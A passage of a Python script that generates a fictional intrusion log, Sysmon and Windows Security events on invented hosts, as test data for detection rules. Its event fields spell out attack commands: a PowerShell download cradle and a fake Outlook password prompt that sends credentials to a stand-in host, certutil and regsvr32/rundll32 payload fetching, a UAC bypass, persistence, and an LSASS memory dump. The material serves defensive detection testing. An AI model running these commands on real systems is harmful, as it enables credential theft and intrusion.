#!/usr/bin/env python3
"""Writes rules/samples/intrusion.jsonl, the sample intrusion of the rule pack.

The events are invented (a fictional company, documentation IP ranges and
example.net domains) but have exactly the nested evtx_dump JSON layout of
the real logs in ../shared/corpus/evtx (see its FORMAT.md): one
{"Event": {...}} object per line, System members in Windows' order, and the
Sysmon / Security / PowerShell EventData members of the corpus' most common
record shapes, with their JSON types (ProcessId numbers in Sysmon, hex
strings in Security, booleans for Initiated, ...). One deliberately truncated line (MALFORMED_AFTER) shows how
socc reports malformed input.

Usage: scripts/make_intrusion_sample.py [--table]
  Without options, rewrites rules/samples/intrusion.jsonl.
  With --table, prints the line-by-line expectations (line, time, host,
  event, detections that must fire) used in rules/samples/README.md and
  tests/e2e/sample_expected.tsv.

The output is deterministic: running the script twice gives the same bytes.
"""
import hashlib
import json
import pathlib
import sys
from datetime import datetime, timedelta

ROOT = pathlib.Path(__file__).resolve().parent.parent
OUT = ROOT / "rules" / "samples" / "intrusion.jsonl"
DAY = "2024-03-12"

DOMAIN = "HALVORSEN"
DOMAIN_SID = "S-1-5-21-2795581436-1402953571-3318297644"
USERS = {  # name -> (RID, logon id, logon guid suffix)
    "m.keller": (1104, "0x4a2f1", "0020F1A24A00"),
    "j.olsen": (1187, "0x3c8d2", "0020D2C83C00"),
    "svc_backup": (1311, "0x1b7e45", "0020457E1B00"),
}
HOSTS = {  # short name -> (FQDN, IP, Sysmon pid, lsass pid, GUID prefix)
    "WS0142": ("HF-WS-0142.halvorsen.local", "10.20.4.142", 2984, 712, "6B1D4E20"),
    "FS01": ("HF-FS01.halvorsen.local", "10.20.1.21", 2212, 668, "3F07A9C1"),
    "WS0087": ("HF-WS-0087.halvorsen.local", "10.20.4.87", 3068, 704, "9C52B7E4"),
}
C2_IP = "203.0.113.45"
C2_HOST = "update-cdn.example.net"
DROP = r"C:\Users\Public\Libraries"

SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
SYSMON_PROVIDER = {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}
SECURITY_PROVIDER = {"Name": "Microsoft-Windows-Security-Auditing", "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"}
POWERSHELL_PROVIDER = {"Name": "Microsoft-Windows-PowerShell", "Guid": "A0C1853B-5C40-4B15-8766-3CF1C58F985A"}
SYSMON_VERSION = {1: 5, 3: 5, 7: 3, 10: 3, 11: 2, 12: 2, 13: 2}

# EventRecordID before the first event of the sample, per (host, channel).
FIRST_RECORD_ID = {}
for _i, _host in enumerate(["WS0142", "FS01", "WS0087"]):
    FIRST_RECORD_ID[(_host, "Microsoft-Windows-Sysmon/Operational")] = [482110, 1903447, 361025][_i]
    FIRST_RECORD_ID[(_host, "Security")] = [1446630, 5710338, 1083076][_i]
    FIRST_RECORD_ID[(_host, "Microsoft-Windows-PowerShell/Operational")] = [9120, 30415, 22871][_i]

# The truncated line is written after this many events.
MALFORMED_AFTER = 34

record_ids = {}


def sid(user):
    if user in USERS:
        return f"{DOMAIN_SID}-{USERS[user][0]}"
    return "S-1-5-18"


def hexdigest(kind, text):
    return hashlib.new(kind, text.encode()).hexdigest().upper()


def hashes(image):
    name = image.lower()
    return (f"SHA1={hexdigest('sha1', name)},MD5={hexdigest('md5', name)},"
            f"SHA256={hexdigest('sha256', name)},IMPHASH={hexdigest('md5', 'imp' + name)}")


def guid(host, pid):
    """A Sysmon-style process GUID: host prefix, then values derived from the pid."""
    h = hexdigest("md5", f"{host}{pid}")
    return f"{HOSTS[host][4]}-{h[0:4]}-{h[4:8]}-0000-0010{h[8:16]}"


def logon_guid(host, user):
    return f"{HOSTS[host][4]}-7A10-65F0-0000-{USERS[user][2]}"


class Clock:
    def __init__(self, t):
        self.t = datetime.fromisoformat(f"{DAY}T{t}")

    def system(self):
        return self.t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    def utc(self, delta_ms=0):
        t = self.t - timedelta(milliseconds=delta_ms)
        return t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def system_block(clock, host, channel, event_id, provider, version, level, task,
                 opcode, keywords, execution, security, correlation=None):
    key = (host, channel)
    record_ids[key] = record_ids.get(key, FIRST_RECORD_ID[key]) + 1
    system = {
        "Provider": {"#attributes": provider},
        "EventID": event_id,
        "Version": version,
        "Level": level,
        "Task": task,
        "Opcode": opcode,
        "Keywords": keywords,
        "TimeCreated": {"#attributes": {"SystemTime": clock.system()}},
        "EventRecordID": record_ids[key],
        "Correlation": correlation,
        "Execution": {"#attributes": execution},
        "Channel": channel,
        "Computer": HOSTS[host][0],
        "Security": security,
    }
    return system


def event(system, data):
    return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                      "System": system, "EventData": data}}


def sysmon(clock, host, event_id, data):
    system = system_block(clock, host, SYSMON_CHANNEL, event_id, SYSMON_PROVIDER,
                          SYSMON_VERSION[event_id], 4, event_id, 0, "0x8000000000000000",
                          {"ProcessID": HOSTS[host][2], "ThreadID": HOSTS[host][2] + 1072},
                          {"#attributes": {"UserID": "S-1-5-18"}})
    return event(system, data)


# Known binaries: image -> (file version, description, product, company, original file name)
MS = "Microsoft Corporation"
WINDOWS = "Microsoft® Windows® Operating System"
OFFICE = "Microsoft Office"
BINARIES = {
    r"C:\Windows\explorer.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Windows Explorer", WINDOWS, MS, "EXPLORER.EXE"),
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE": ("16.0.17328.20162", "Microsoft Outlook", OFFICE, MS, "Outlook.exe"),
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE": ("16.0.17328.20162", "Microsoft Word", OFFICE, MS, "WinWord.exe"),
    r"C:\Program Files\Google\Chrome\Application\chrome.exe": ("122.0.6261.112", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe": ("10.0.19041.3996 (WinBuild.160101.0800)", "Windows PowerShell", WINDOWS, MS, "PowerShell.EXE"),
    r"C:\Windows\System32\certutil.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "CertUtil.exe", WINDOWS, MS, "CertUtil.exe"),
    r"C:\Windows\System32\regsvr32.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Microsoft(C) Register Server", WINDOWS, MS, "REGSVR32.EXE"),
    r"C:\Windows\System32\rundll32.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Windows host process (Rundll32)", WINDOWS, MS, "RUNDLL32.EXE"),
    r"C:\Windows\System32\fodhelper.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Features On Demand Helper", WINDOWS, MS, "FodHelper.EXE"),
    r"C:\Windows\System32\schtasks.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Task Scheduler Configuration Tool", WINDOWS, MS, "schtasks.exe"),
    r"C:\Windows\System32\cmd.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Windows Command Processor", WINDOWS, MS, "Cmd.Exe"),
    r"C:\Windows\System32\whoami.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "whoami - displays logged on user information", WINDOWS, MS, "whoami.exe"),
    r"C:\Windows\System32\net.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Net Command", WINDOWS, MS, "net.exe"),
    r"C:\Windows\System32\net1.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Net Command", WINDOWS, MS, "net1.exe"),
    r"C:\Windows\System32\reg.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Registry Console Tool", WINDOWS, MS, "reg.exe"),
    r"C:\Windows\System32\tasklist.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Lists the current running tasks", WINDOWS, MS, "tasklist.exe"),
    r"C:\Windows\System32\netsh.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Network Command Shell", WINDOWS, MS, "netsh.exe"),
    r"C:\Windows\System32\vssadmin.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Command Line Interface for Microsoft® Volume Shadow Copy Service ", WINDOWS, MS, "VSSADMIN.EXE"),
    r"C:\Windows\System32\bcdedit.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Boot Configuration Data Editor", WINDOWS, MS, "bcdedit.exe"),
    r"C:\Windows\PSEXESVC.exe": ("2.43", "PsExec Service", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "psexesvc.exe"),
    r"C:\Users\Public\Libraries\PsExec64.exe": ("2.43", "Execute processes remotely", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "psexec.c"),
    r"C:\Program Files\Halvorsen\BackupAgent\hbagent.exe": ("7.2.1.0", "Halvorsen Backup Agent", "Halvorsen Backup", "Halvorsen Freight AS", "hbagent.exe"),
}


def process_creation(clock, host, pid, image, command_line, parent_pid, parent_image,
                     parent_command_line, user, integrity, cwd=r"C:\Windows\system32\\"):
    version, description, product, company, original = BINARIES[image]
    if user in USERS:
        user_name, logon_id, lguid, session = f"{DOMAIN}\\{user}", USERS[user][1], logon_guid(host, user), 1
    else:
        user_name, logon_id, lguid, session = "NT AUTHORITY\\SYSTEM", "0x3e7", f"{HOSTS[host][4]}-6BE0-65F0-0000-0020E7030000", 0
    return sysmon(clock, host, 1, {
        "RuleName": "-",
        "UtcTime": clock.utc(14),
        "ProcessGuid": guid(host, pid),
        "ProcessId": pid,
        "Image": image,
        "FileVersion": version,
        "Description": description,
        "Product": product,
        "Company": company,
        "OriginalFileName": original,
        "CommandLine": command_line,
        "CurrentDirectory": cwd.rstrip("\\") + "\\",
        "User": user_name,
        "LogonGuid": lguid,
        "LogonId": logon_id,
        "TerminalSessionId": session,
        "IntegrityLevel": integrity,
        "Hashes": hashes(image),
        "ParentProcessGuid": guid(host, parent_pid),
        "ParentProcessId": parent_pid,
        "ParentImage": parent_image,
        "ParentCommandLine": parent_command_line,
    })


def network_connection(clock, host, pid, image, user, dst_ip, dst_host, dst_port, dst_port_name, src_port):
    return sysmon(clock, host, 3, {
        "RuleName": "-",
        "UtcTime": clock.utc(820),
        "ProcessGuid": guid(host, pid),
        "ProcessId": pid,
        "Image": image,
        "User": f"{DOMAIN}\\{user}",
        "Protocol": "tcp",
        "Initiated": True,
        "SourceIsIpv6": False,
        "SourceIp": HOSTS[host][1],
        "SourceHostname": HOSTS[host][0],
        "SourcePort": src_port,
        "SourcePortName": "-",
        "DestinationIsIpv6": False,
        "DestinationIp": dst_ip,
        "DestinationHostname": dst_host,
        "DestinationPort": dst_port,
        "DestinationPortName": dst_port_name,
    })


def image_load(clock, host, pid, image, loaded, description, original):
    return sysmon(clock, host, 7, {
        "RuleName": "-",
        "UtcTime": clock.utc(3),
        "ProcessGuid": guid(host, pid),
        "ProcessId": pid,
        "Image": image,
        "ImageLoaded": loaded,
        "FileVersion": "10.0.19041.3636 (WinBuild.160101.0800)",
        "Description": description,
        "Product": WINDOWS,
        "Company": MS,
        "OriginalFileName": original,
        "Hashes": hashes(loaded),
        "Signed": "true",
        "Signature": "Microsoft Windows",
        "SignatureStatus": "Valid",
    })


def process_access(clock, host, src_pid, src_image, dst_pid, dst_image, access, call_trace):
    return sysmon(clock, host, 10, {
        "RuleName": "-",
        "UtcTime": clock.utc(2),
        "SourceProcessGUID": guid(host, src_pid),
        "SourceProcessId": src_pid,
        "SourceThreadId": src_pid + 36,
        "SourceImage": src_image,
        "TargetProcessGUID": guid(host, dst_pid),
        "TargetProcessId": dst_pid,
        "TargetImage": dst_image,
        "GrantedAccess": access,
        "CallTrace": call_trace,
    })


def file_create(clock, host, pid, image, target):
    return sysmon(clock, host, 11, {
        "RuleName": "-",
        "UtcTime": clock.utc(1),
        "ProcessGuid": guid(host, pid),
        "ProcessId": pid,
        "Image": image,
        "TargetFilename": target,
        "CreationUtcTime": clock.utc(1),
    })


def registry(clock, host, event_id, event_type, pid, image, target, details):
    data = {
        "RuleName": "-",
        "EventType": event_type,
        "UtcTime": clock.utc(1),
        "ProcessGuid": guid(host, pid),
        "ProcessId": pid,
        "Image": image,
        "TargetObject": target,
    }
    if event_id == 13:
        data["Details"] = details
    return sysmon(clock, host, event_id, data)


def security(clock, host, event_id, task, data, version=2, keywords="0x8020000000000000"):
    system = system_block(clock, host, "Security", event_id, SECURITY_PROVIDER, version, 0, task, 0,
                          keywords, {"ProcessID": HOSTS[host][3], "ThreadID": HOSTS[host][3] + 2154}, None,
                          {"#attributes": {"ActivityID": "E2C2F1A0-74B3-0002-6A1F-C2E2B374DA01"}})
    return event(system, data)


def logon(clock, host, logon_type, process, package, user, subject, ip, port, workstation,
          process_name, process_id, outbound_user="-", elevated="%%1842"):
    subject_user, subject_sid, subject_logon = subject
    return security(clock, host, 4624, 12544, {
        "SubjectUserSid": subject_sid,
        "SubjectUserName": subject_user,
        "SubjectDomainName": DOMAIN if subject_user != "-" else "-",
        "SubjectLogonId": subject_logon,
        "TargetUserSid": sid(user),
        "TargetUserName": user,
        "TargetDomainName": DOMAIN,
        "TargetLogonId": f"0x{hash_int(clock.system() + user) % 0xffffff:x}",
        "LogonType": logon_type,
        "LogonProcessName": process,
        "AuthenticationPackageName": package,
        "WorkstationName": workstation,
        "LogonGuid": "00000000-0000-0000-0000-000000000000" if package != "Kerberos" else "4D1B6C2E-9A0F-3E51-7B28-C4D1E0A6F392",
        "TransmittedServices": "-",
        "LmPackageName": "NTLM V2" if package == "NTLM" else "-",
        "KeyLength": 128 if package == "NTLM" else 0,
        "ProcessId": process_id,
        "ProcessName": process_name,
        "IpAddress": ip,
        "IpPort": port,
        "ImpersonationLevel": "%%1833",
        "RestrictedAdminMode": "-",
        "TargetOutboundUserName": outbound_user,
        "TargetOutboundDomainName": DOMAIN if outbound_user != "-" else "-",
        "VirtualAccount": "%%1843",
        "TargetLinkedLogonId": "0x0",
        "ElevatedToken": elevated,
    })


def hash_int(text):
    return int(hexdigest("md5", text)[:8], 16)


def logon_failure(clock, host, user, workstation):
    return security(clock, host, 4625, 12544, {
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": f"{HOSTS[host][0].split('.')[0]}$",
        "SubjectDomainName": DOMAIN,
        "SubjectLogonId": "0x3e7",
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": user,
        "TargetDomainName": DOMAIN,
        "Status": "0xc000006d",
        "FailureReason": "%%2313",
        "SubStatus": "0xc000006a",
        "LogonType": 2,
        "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate",
        "WorkstationName": workstation,
        "TransmittedServices": "-",
        "LmPackageName": "-",
        "KeyLength": 0,
        "ProcessId": "0x2f4",
        "ProcessName": r"C:\Windows\System32\svchost.exe",
        "IpAddress": "127.0.0.1",
        "IpPort": "0",
    }, version=0, keywords="0x8010000000000000")


def security_process(clock, host, pid, image, parent_image, command_line):
    machine = HOSTS[host][0].split(".")[0] + "$"
    return security(clock, host, 4688, 13312, {
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": machine,
        "SubjectDomainName": DOMAIN,
        "SubjectLogonId": "0x3e7",
        "NewProcessId": f"0x{pid:x}",
        "NewProcessName": image,
        "TokenElevationType": "%%1936",
        "ProcessId": "0x1b4c",
        "CommandLine": command_line,
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-",
        "TargetDomainName": "-",
        "TargetLogonId": "0x0",
        "ParentProcessName": parent_image,
        "MandatoryLabel": "S-1-16-16384",
    })


def script_block(clock, host, user, text, block_id, level=5):
    system = system_block(clock, host, "Microsoft-Windows-PowerShell/Operational", 4104, POWERSHELL_PROVIDER,
                          1, level, 2, 15, "0x0", {"ProcessID": 8020 if host == "WS0142" else 5516, "ThreadID": 8212},
                          {"#attributes": {"UserID": sid(user)}},
                          {"#attributes": {"ActivityID": "5D3E2B10-74B3-0001-9C4A-3E5D10B374DA"}})
    return event(system, {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
                          "ScriptBlockId": block_id, "Path": ""})


# Frequently used images
EXPLORER = r"C:\Windows\explorer.exe"
OUTLOOK = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
WINWORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CERTUTIL = r"C:\Windows\System32\certutil.exe"
REGSVR32 = r"C:\Windows\System32\regsvr32.exe"
RUNDLL32 = r"C:\Windows\System32\rundll32.exe"
FODHELPER = r"C:\Windows\System32\fodhelper.exe"
SCHTASKS = r"C:\Windows\System32\schtasks.exe"
CMD = r"C:\Windows\System32\cmd.exe"
WHOAMI = r"C:\Windows\System32\whoami.exe"
NET = r"C:\Windows\System32\net.exe"
NET1 = r"C:\Windows\System32\net1.exe"
REG = r"C:\Windows\System32\reg.exe"
TASKLIST = r"C:\Windows\System32\tasklist.exe"
NETSH = r"C:\Windows\System32\netsh.exe"
VSSADMIN = r"C:\Windows\System32\vssadmin.exe"
BCDEDIT = r"C:\Windows\System32\bcdedit.exe"
SERVICES = r"C:\Windows\System32\services.exe"
PSEXESVC = r"C:\Windows\PSEXESVC.exe"
PSEXEC = DROP + r"\PsExec64.exe"
LSASS = r"C:\Windows\system32\lsass.exe"
MSTSC = r"C:\Windows\System32\mstsc.exe"
BACKUP_AGENT = r"C:\Program Files\Halvorsen\BackupAgent\hbagent.exe"
USER_HIVE = f"HKU\\{DOMAIN_SID}-1104"

PS_CRADLE = (f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
             f"'http://{C2_HOST}/s/inv0311.ps1')\"")
WORD_CMD = (f'"{WINWORD}" /n "C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\'
                    f'Content.Outlook\\7QX2M4KD\\Invoice_0311.docm" /o ""')
STAGE_SCRIPT = (
    "$ErrorActionPreference = 'SilentlyContinue'\n"
    f"$u = 'http://{C2_HOST}/s'\n"
    "$c = $Host.UI.PromptForCredential('Microsoft Outlook', 'Your session has expired. Please re-enter your password.', "
    "\"$env:USERDOMAIN\\$env:USERNAME\", '')\n"
    "$p = $c.GetNetworkCredential().Password\n"
    "$wc = New-Object Net.WebClient\n"
    "$wc.UploadString(\"$u/c\", \"$env:COMPUTERNAME|$env:USERNAME|$p\") | Out-Null\n"
    "Start-Process certutil.exe -ArgumentList \"-urlcache -split -f $u/upd.b64 C:\\Users\\Public\\Libraries\\upd.b64\" -WindowStyle Hidden -Wait\n"
    "Start-Process certutil.exe -ArgumentList '-decode C:\\Users\\Public\\Libraries\\upd.b64 C:\\Users\\Public\\Libraries\\msoffupd.dll' -WindowStyle Hidden -Wait"
)
IMPLANT = DROP + r"\msoffupd.dll"
IMPLANT_CMD = f"{RUNDLL32} {IMPLANT},DllRegisterServer"


def scenario():
    """Yields (clock time, host, event, detections expected to fire, note)."""
    A, B, C = "WS0142", "FS01", "WS0087"
    mk, jo = "m.keller", "j.olsen"
    t = Clock
    no_subject = ("-", "S-1-0-0", "0x0")  # network logons name no subject

    # --- morning: ordinary activity ---------------------------------------
    yield t("08:55:02.418337"), A, logon(t("08:55:02.418337"), A, 2, "User32 ", "Negotiate", mk,
          (f"HF-WS-0142$", "S-1-5-18", "0x3e7"), "127.0.0.1", "0", "HF-WS-0142",
          r"C:\Windows\System32\svchost.exe", "0x3a4", elevated="%%1843"), [], \
        "m.keller logs on interactively (type 2, Negotiate): near miss for pass_the_hash_logon"
    yield t("08:58:11.204761"), A, process_creation(t("08:58:11.204761"), A, 6120, OUTLOOK, f'"{OUTLOOK}" ',
          4312, EXPLORER, EXPLORER, mk, "Medium", r"C:\Users\m.keller"), [], "Outlook started from Explorer"
    yield t("08:58:40.930118"), A, network_connection(t("08:58:40.930118"), A, 6120, OUTLOOK, mk,
          "52.97.146.162", "outlook.office365.com", 443, "https", 50712), [], "Outlook talks to Exchange Online"
    yield t("09:02:05.517602"), C, process_creation(t("09:02:05.517602"), C, 7704, CHROME,
          f'"{CHROME}" ', 5120, EXPLORER, EXPLORER, jo, "Medium", r"C:\Users\j.olsen"), [], \
        "IT admin j.olsen starts Chrome"
    yield t("09:05:32.088410"), B, logon(t("09:05:32.088410"), B, 3, "Kerberos", "Kerberos", jo,
          no_subject, "10.20.4.87", "51544", "-", "-", "0x0"), [], "j.olsen maps a share on the file server (Kerberos)"
    yield t("09:06:47.302915"), C, script_block(t("09:06:47.302915"), C, jo,
          "$cred = Get-Credential -UserName 'HALVORSEN\\j.olsen' -Message 'Printer queue maintenance'\n"
          "Invoke-Command -ComputerName hf-print01 -Credential $cred -ScriptBlock { Get-PrintJob -PrinterName 'FIN-2F' }",
          "8f1c2b7e-45a0-4d6e-9b3a-2c7d1e0f5a64"), [], "admin script with Get-Credential: near miss for credential_prompt_phishing"

    # --- initial access: the invoice macro --------------------------------
    yield t("09:12:48.771350"), A, file_create(t("09:12:48.771350"), A, 6120, OUTLOOK,
          r"C:\Users\m.keller\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QX2M4KD\Invoice_0311.docm"), [], "Outlook saves the attachment Invoice_0311.docm"
    yield t("09:12:55.146893"), A, process_creation(t("09:12:55.146893"), A, 7344, WINWORD, WORD_CMD,
          6120, OUTLOOK, f'"{OUTLOOK}" ', mk, "Medium", r"C:\Users\m.keller\Documents"), [], \
        "Word opens the attachment (Office child of Office: near miss for office_spawns_interpreter)"
    yield t("09:13:20.582004"), A, process_creation(t("09:13:20.582004"), A, 8020, POWERSHELL, PS_CRADLE,
          7344, WINWORD, WORD_CMD, mk, "Medium", r"C:\Users\m.keller\Documents"), \
        ["office_spawns_interpreter", "powershell_download_cradle"], "the macro starts a PowerShell download cradle"
    yield t("09:13:21.009377"), A, network_connection(t("09:13:21.009377"), A, 8020, POWERSHELL, mk,
          C2_IP, C2_HOST, 80, "http", 50731), [], "PowerShell fetches the stage from the attacker's server"
    yield t("09:13:21.640258"), A, script_block(t("09:13:21.640258"), A, mk, STAGE_SCRIPT,
          "c7a4e0d2-1b3f-4a86-9e25-6f0d8b1c3a97", level=3), ["credential_prompt_phishing"], \
        "the stage shows a fake Outlook password prompt and sends the answer home"
    yield t("09:15:10.311942"), A, process_creation(t("09:15:10.311942"), A, 8532, CERTUTIL,
          f'"{CERTUTIL}" -urlcache -split -f http://{C2_HOST}/s/upd.b64 {DROP}\\upd.b64',
          8020, POWERSHELL, PS_CRADLE, mk, "Medium", r"C:\Users\m.keller\Documents"), ["certutil_download"], \
        "certutil downloads the encoded implant"
    yield t("09:15:14.870215"), A, process_creation(t("09:15:14.870215"), A, 8610, CERTUTIL,
          f'"{CERTUTIL}" -decode {DROP}\\upd.b64 {IMPLANT}',
          8020, POWERSHELL, PS_CRADLE, mk, "Medium", r"C:\Users\m.keller\Documents"), ["certutil_decode"], \
        "certutil decodes it into msoffupd.dll"
    yield t("09:15:15.102736"), A, file_create(t("09:15:15.102736"), A, 8610, CERTUTIL, IMPLANT), [], "msoffupd.dll written"

    # --- LOLBins -----------------------------------------------------------
    yield t("09:16:40.455120"), A, process_creation(t("09:16:40.455120"), A, 8744, REGSVR32,
          f'"{REGSVR32}" /s /n /u /i:http://{C2_HOST}/s/r.sct scrobj.dll',
          8020, POWERSHELL, PS_CRADLE, mk, "Medium", r"C:\Users\m.keller\Documents"), ["regsvr32_squiblydoo"], \
        "regsvr32 runs a remote scriptlet (Squiblydoo)"
    yield t("09:16:41.017783"), A, network_connection(t("09:16:41.017783"), A, 8744, REGSVR32, mk,
          C2_IP, C2_HOST, 80, "http", 50744), [], "regsvr32 fetches r.sct"
    yield t("09:17:05.623491"), A, process_creation(t("09:17:05.623491"), A, 8912, RUNDLL32,
          'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
          f'GetObject("script:http://{C2_HOST}/s/b.sct").Exec();window.close()',
          8744, REGSVR32, f'"{REGSVR32}" /s /n /u /i:http://{C2_HOST}/s/r.sct scrobj.dll', mk, "Medium",
          r"C:\Users\m.keller\Documents"), ["rundll32_lolbas_proxy"], "the scriptlet starts rundll32 with inline JavaScript"
    yield t("09:18:30.244816"), A, process_creation(t("09:18:30.244816"), A, 9016, RUNDLL32,
          r"C:\Windows\system32\rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,0",
          4312, EXPLORER, EXPLORER, mk, "Medium", r"C:\Users\m.keller"), [], \
        "the user opens display settings: near miss for rundll32_lolbas_proxy"

    # --- privilege escalation and persistence ----------------------------
    yield t("09:19:02.118240"), A, registry(t("09:19:02.118240"), A, 13, "SetValue", 8020, POWERSHELL,
          f"{USER_HIVE}_Classes\\ms-settings\\shell\\open\\command\\(Default)", IMPLANT_CMD), ["uac_bypass_registry_hijack"], "fodhelper UAC bypass: ms-settings open command hijacked"
    yield t("09:19:03.551089"), A, process_creation(t("09:19:03.551089"), A, 9120, FODHELPER,
          f'"{FODHELPER}"', 8020, POWERSHELL, PS_CRADLE, mk, "High", r"C:\Windows\system32"), [], \
        "fodhelper.exe auto-elevates"
    yield t("09:19:04.009512"), A, process_creation(t("09:19:04.009512"), A, 9208, RUNDLL32, IMPLANT_CMD,
          9120, FODHELPER, f'"{FODHELPER}"', mk, "High", r"C:\Windows\system32"), [], \
        "... and starts the implant at high integrity (ordinary DLL export: no alert)"
    yield t("09:19:30.771403"), A, registry(t("09:19:30.771403"), A, 12, "DeleteValue", 8020, POWERSHELL,
          f"{USER_HIVE}_Classes\\ms-settings\\shell\\open\\command\\(Default)", None), [], "the hijack is removed again (DeleteValue: near miss for uac_bypass_registry_hijack)"
    yield t("09:21:10.630852"), A, registry(t("09:21:10.630852"), A, 13, "SetValue", 9208, RUNDLL32,
          f"{USER_HIVE}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OfficeUpdate",
          f'rundll32.exe "{IMPLANT}",DllRegisterServer'), ["registry_run_key"], \
        "Run key autostart for the implant"
    yield t("09:21:44.392671"), A, registry(t("09:21:44.392671"), A, 13, "SetValue", 4312, EXPLORER,
          f"{USER_HIVE}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a",
          r"\\hf-fs01\finance\1"), [], \
        "the user types a share into the Run dialog (RunMRU: near miss for registry_run_key)"
    yield t("09:22:15.813097"), A, process_creation(t("09:22:15.813097"), A, 9376, SCHTASKS,
          f'"{SCHTASKS}" /create /tn "\\Microsoft\\Office\\OfficeTelemetryUpdate" /tr "{IMPLANT_CMD}" /sc onlogon /ru SYSTEM /f',
          9208, RUNDLL32, IMPLANT_CMD, mk, "High"), ["scheduled_task_creation"], "scheduled task running the implant as SYSTEM"
    yield t("09:24:00.540331"), C, process_creation(t("09:24:00.540331"), C, 6688, POWERSHELL,
          r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File \\halvorsen.local\NETLOGON\inventory.ps1',
          5120, EXPLORER, EXPLORER, jo, "High", r"C:\Users\j.olsen"), [], \
        "inventory script from NETLOGON: near miss for powershell_download_cradle"
    yield t("09:24:02.107718"), C, process_creation(t("09:24:02.107718"), C, 6720, SCHTASKS,
          f'"{SCHTASKS}" /query /fo CSV /v', 6688, POWERSHELL,
          r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File \\halvorsen.local\NETLOGON\inventory.ps1',
          jo, "High"), [], "the inventory script lists tasks: near miss for scheduled_task_creation"

    # --- discovery and credential access ----------------------------------
    yield t("09:26:30.905514"), A, process_creation(t("09:26:30.905514"), A, 9480, CMD, f'"{CMD}"',
          9208, RUNDLL32, IMPLANT_CMD, mk, "High"), [], "the implant opens a shell"
    yield t("09:26:41.228306"), A, process_creation(t("09:26:41.228306"), A, 9532, WHOAMI, "whoami  /all",
          9480, CMD, f'"{CMD}"', mk, "High"), [], "whoami at high integrity: near miss for whoami_as_system"
    yield t("09:27:45.660149"), A, process_creation(t("09:27:45.660149"), A, 9600, NET,
          'net  group "Domain Admins" /domain', 9480, CMD, f'"{CMD}"', mk, "High"), ["domain_group_discovery"], \
        "net group \"Domain Admins\" /domain"
    yield t("09:27:45.681220"), A, process_creation(t("09:27:45.681220"), A, 9612, NET1,
          r'C:\Windows\system32\net1  group "Domain Admins" /domain', 9600, NET,
          'net  group "Domain Admins" /domain', mk, "High"), ["domain_group_discovery"], \
        "... and the net1.exe that net.exe starts"
    yield t("09:31:02.377090"), A, process_creation(t("09:31:02.377090"), A, 9744, RUNDLL32,
          rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 {DROP}\lsass.dmp full",
          9480, CMD, f'"{CMD}"', mk, "High"), ["comsvcs_minidump"], "LSASS dumped with comsvcs.dll MiniDump"
    yield t("09:31:02.401655"), A, process_access(t("09:31:02.401655"), A, 9744, RUNDLL32, 712, LSASS, "0x1fffff",
          r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|"
          r"C:\Windows\System32\comsvcs.dll+a7f2|C:\Windows\System32\comsvcs.dll+a4b3|"
          r"C:\Windows\system32\rundll32.exe+3bc4|C:\Windows\System32\KERNEL32.DLL+17034|"
          r"C:\Windows\SYSTEM32\ntdll.dll+52651"), ["lsass_memory_access"], \
        "... which opens lsass.exe with full access"
    yield t("09:31:04.918223"), A, file_create(t("09:31:04.918223"), A, 9744, RUNDLL32, DROP + r"\lsass.dmp"), [], "lsass.dmp written"
    yield t("09:31:20.066781"), A, process_access(t("09:31:20.066781"), A, 3440,
          r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe", 712, LSASS, "0x1410",
